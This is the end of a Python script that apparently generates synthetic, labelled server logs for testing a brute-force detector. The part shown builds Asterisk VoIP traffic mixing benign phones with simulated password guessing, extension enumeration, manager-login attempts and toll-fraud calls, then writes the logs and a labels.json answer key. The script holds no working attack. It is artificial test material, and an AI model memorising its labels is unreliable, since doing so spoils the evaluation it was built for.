    exts = ["%d" % e for e in range(201, 241)]
    # Phones inside: reachability notices, misdials, and a few with a stale password after a
    # reset that retry every 5-15 minutes until someone fixes them (1-2 failures per 10 min).
    for i, ext in enumerate(exts):
        ip = addr.internal()
        stale = i % 10 == 3
        lab.set(ip, "bruteforce", "benign", "voip/phone-stale-password" if stale else "voip/phone")
        t = rng.uniform(0, 3600)
        while t < span:
            r = rng.random()
            if r < 0.3:
                N(t, "chan_sip.c: Peer '%s' is now Reachable. (%dms / 2000ms)" % (ext, rng.randint(3, 40)))
            elif r < 0.4:
                call_rejected(t, ip, ext, rng.choice(["9999", "1234", "0" + ext, "55" + ext]), "from-internal")
            t += rng.uniform(1800, 7200)
        if stale:
            t = rng.uniform(3600, span - 8 * 3600)
            end = t + rng.uniform(2, 6) * 3600
            while t < end:
                reg_fail(t, ip, ext, "Wrong password")
                t += rng.uniform(300, 900)
    # Softphones outside (staff at home): a mistyped password now and then, then a login.
    for _ in range(8):
        ip = addr.v4()
        ext = rng.choice(exts)
        lab.set(ip, "bruteforce", "benign", "voip/remote-softphone")
        for _ in range(rng.randint(1, 4)):
            t = rng.uniform(0, span - 600)
            for _ in range(rng.choice([0, 1, 1, 2])):
                reg_fail(t, ip, ext, "Wrong password")
                t += rng.uniform(20, 90)

    def guess(profile, attempts, label="attacker", gap=lambda: rng.uniform(0.3, 4), kind="password"):
        ip = addr.v4()
        t = rng.uniform(600, span - 6 * 3600) if "slow" not in profile else rng.uniform(600, span / 2)
        pjsip = rng.random() < 0.35
        times = []
        target = rng.choice(exts)
        for i in range(attempts):
            if kind == "enumerate":
                reg_fail(t, ip, str(rng.randint(100, 9999)), "No matching peer found", pjsip)
            elif kind == "ami":
                N(t, "manager.c: %s failed to authenticate as '%s'" % (ip, rng.choice(["admin", "manager", "asterisk", "root"])))
            else:
                if i % 7 == 6:
                    target = rng.choice(exts)
                reg_fail(t, ip, target, "Wrong password", pjsip)
            times.append(t)
            t += gap()
        lab.set(ip, "bruteforce", label, profile, attempts=attempts, max_10min=fail_windows(times), form="v4")
        if label == "attacker" and "slow" not in profile:
            assert fail_windows(times) >= 5

    for _ in range(6):
        guess("voip/5-10", rng.randint(5, 10), gap=lambda: rng.uniform(2, 40))
    for _ in range(6):
        guess("voip/tens", rng.randint(11, 90))
    for _ in range(3):
        guess("voip/hundreds", rng.randint(100, 600), gap=lambda: rng.uniform(0.05, 1))
    for _ in range(4):
        guess("voip/enumeration", rng.randint(20, 300), gap=lambda: rng.uniform(0.05, 0.5), kind="enumerate")
    for _ in range(2):
        guess("voip/ami", rng.randint(6, 40), gap=lambda: rng.uniform(1, 10), kind="ami")
    for _ in range(2):
        guess("voip/slow", rng.randint(12, 30), gap=lambda: rng.uniform(600, 1800))
    for _ in range(5):
        guess("voip/below", rng.choice([3, 4]), label="below", gap=lambda: rng.uniform(5, 60))
    # Toll-fraud bots: INVITEs to international numbers through the default context.
    for _ in range(6):
        ip = addr.v4()
        calls = rng.randint(12, 80)
        t = rng.uniform(600, span - 3600)
        times = []
        for _ in range(calls):
            number = rng.choice(["00", "011", "9011", "900", "+"]) + rng.choice(["972", "44", "370", "252", "882"]) + \
                "".join(rng.choice(string.digits) for _ in range(rng.randint(7, 10)))
            call_rejected(t, ip, rng.choice(["", "anonymous", "100", "sipvicious"]), number, "default")
            times.append(t)
            t += rng.uniform(1, 30)
        lab.set(ip, "recon", "attacker", "voip/toll-fraud", calls=calls, max_10min=fail_windows(times), form="v4")
    return log, lab


# ------------------------------------------------------------------------------------------ write

def write(path, log, rng, kind):
    """Sort, give connections pids in order of appearance, stamp and write; returns line count
    and the time (seconds after START) of the last line."""
    ev = sorted(log.ev, key=lambda e: (e[0], e[1]))
    pids, nxt, n = {}, 2000 + rng.randrange(20000), 0
    with open(path, "w", encoding="utf-8", newline="\n") as f:
        for t, _, conn, text in ev:
            if PID in text or PID2 in text:
                if conn not in pids:
                    nxt += rng.randint(1, 6)
                    pids[conn] = (nxt, nxt + 1)
                    nxt += 1
                text = text.replace(PID, str(pids[conn][0])).replace(PID2, str(pids[conn][1]))
            stamp = {"web": clf_stamp, "voip": asterisk_stamp}.get(kind, syslog_stamp)(t)
            f.write(text.replace("%s", stamp, 1) + "\n")
            n += 1
    last = ev[-1][0] if ev else 0
    return n, last


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--out", required=True, help="output directory")
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--days", type=float, default=3.0, help="time span (default 3 days)")
    ap.add_argument("--sshd-session-from", type=float, default=None,
                    help="day (from 0) at which auth.log's sshd becomes sshd-session (default: 2/3 of the span)")
    a = ap.parse_args()
    span = a.days * 86400
    session_from = (a.sshd_session_from if a.sshd_session_from is not None else a.days * 2 / 3) * 86400
    os.makedirs(a.out, exist_ok=True)
    rng = random.Random(a.seed)
    addr = Addr(random.Random(a.seed * 7919 + 1))
    files = [
        ("auth.log", "ssh", "syslog", lambda r: gen_auth(r, addr, span, session_from)),
        ("auth-keyonly.log", "ssh", "syslog", lambda r: gen_auth_keyonly(r, addr, span, session_from)),
        ("access.log", "web", "apache", lambda r: gen_web(r, addr, span)),
        ("ftp.log", "ftp", "syslog", lambda r: gen_ftp(r, addr, span)),
        ("mail.log", "mail", "syslog", lambda r: gen_mail(r, addr, span)),
        ("kern.log", "fw", "syslog", lambda r: gen_fw(r, addr, span)),
        ("asterisk.log", "voip", "asterisk", lambda r: gen_voip(r, addr, span)),
    ]
    labels, manifest = {}, {"version": VERSION, "seed": a.seed, "year": YEAR, "start": START.isoformat(),
                            "days": a.days, "sshd_session_from_day": session_from / 86400, "files": {}}
    for name, kind, ctype, fn in files:
        r = random.Random("%d/%s" % (a.seed, name))
        log, lab = fn(r)
        path = os.path.join(a.out, name)
        n, last = write(path, log, r, kind)
        mtime = (START + dt.timedelta(seconds=int(last) + 60)).timestamp()
        os.utime(path, (mtime, mtime))
        labels[name] = lab.d
        counts = {}
        for v in lab.d.values():
            k = v["label"] if v["label"] != "attacker" else "attacker:" + v["category"]
            counts[k] = counts.get(k, 0) + 1
        manifest["files"][name] = {"kind": kind, "type": ctype, "lines": n, "bytes": os.path.getsize(path),
                                   "mtime": dt.datetime.fromtimestamp(mtime, dt.timezone.utc).isoformat(),
                                   "sources": counts}
    with open(os.path.join(a.out, "labels.json"), "w") as f:
        json.dump(labels, f, indent=1, sort_keys=True)
    with open(os.path.join(a.out, "corpus.json"), "w") as f:
        json.dump(manifest, f, indent=1)
    for name, info in manifest["files"].items():
        print("%-16s %7d lines %9d bytes  %s" % (name, info["lines"], info["bytes"],
              ", ".join("%s %d" % kv for kv in sorted(info["sources"].items()))))


if __name__ == "__main__":
    main()
